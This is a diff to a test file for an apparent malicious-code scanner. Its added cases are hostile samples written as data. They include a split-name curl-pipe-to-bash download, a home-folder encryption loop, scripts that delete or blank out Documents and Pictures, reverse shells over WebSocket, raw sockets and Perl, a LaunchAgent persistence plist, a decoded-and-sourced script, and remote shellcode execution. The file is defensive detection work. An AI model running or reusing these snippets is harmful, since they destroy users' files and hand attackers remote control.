@@ -349,7 +349,7 @@ const shells: readonly Case[] = [
   {
     title: "a program whose name is in pieces",
     files: { "a.sh": "a=cu; b=rl\n$a$b -s http://45.1.2.3/x | bash\n" },
-    expected: ["download-run"],
+    expected: ["disguised-name", "download-run"],
   },
   {
     title: "a script of macOS around a shell",
@@ -509,6 +509,46 @@ describe("ways out and ways to destroy", () => {
       "a.py",
       'import pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor p in pathlib.Path.home().rglob("*"):\n    p.write_bytes(f.encrypt(p.read_bytes())); p.rename(str(p) + ".x")\n',
       "files-locked",
+    ],
+    [
+      "a.js",
+      'const fs = require("fs"), path = require("path"), os = require("os");\nconst docs = path.join(os.homedir(), "Documents");\nfor (const name of fs.readdirSync(docs)) fs.unlinkSync(path.join(docs, name));\n',
+      "destruction",
+    ],
+    [
+      "a.rb",
+      'Dir.glob(File.join(Dir.home, "{Documents,Pictures}", "**", "*")).each { |f| File.write(f, "") if File.file?(f) }\n',
+      "destruction",
+    ],
+    [
+      "a.js",
+      'const { spawn } = require("child_process");\nconst WebSocket = require("ws");\nconst ws = new WebSocket("wss://relay.tables.dev/a");\nconst sh = spawn("sh", []);\nws.on("message", (m) => sh.stdin.write(m + "\\n"));\n',
+      "reverse-shell",
+    ],
+    [
+      "a.js",
+      'const c = require("net").connect(4444, "ops.tables.dev");\nc.on("data", (d) => require("child_process").exec(d.toString()));\n',
+      "reverse-shell",
+    ],
+    [
+      "a.sh",
+      `perl -MIO::Socket -e '$c=IO::Socket::INET->new("a.tables.dev:9001");while(<$c>){print $c \`$_\`}'\n`,
+      "reverse-shell",
+    ],
+    [
+      "a.py",
+      'import os, plistlib\nplistlib.dump({"RunAtLoad": True}, open(os.path.expanduser("~/Library/LaunchAgents/com.apple.powerd.helper.plist"), "wb"))\n',
+      "persistence",
+    ],
+    [
+      "a.sh",
+      `a=$(sed -n 2p "$0" | tr a-z n-za-m)\nprintf '%s' "$a" > /tmp/.d\n. /tmp/.d\n`,
+      "decoded-run",
+    ],
+    [
+      "a.py",
+      'import ctypes, urllib.request\nb = urllib.request.urlopen("https://tables.dev/s.bin").read()\nf = ctypes.cast(ctypes.create_string_buffer(b), ctypes.CFUNCTYPE(ctypes.c_void_p))\n',
+      "remote-eval",
     ],
   ])("[BX-07] are found in %s: %s", async (path, text, code) => {
     expect(await graveOf({ [path]: text })).toContain(code);
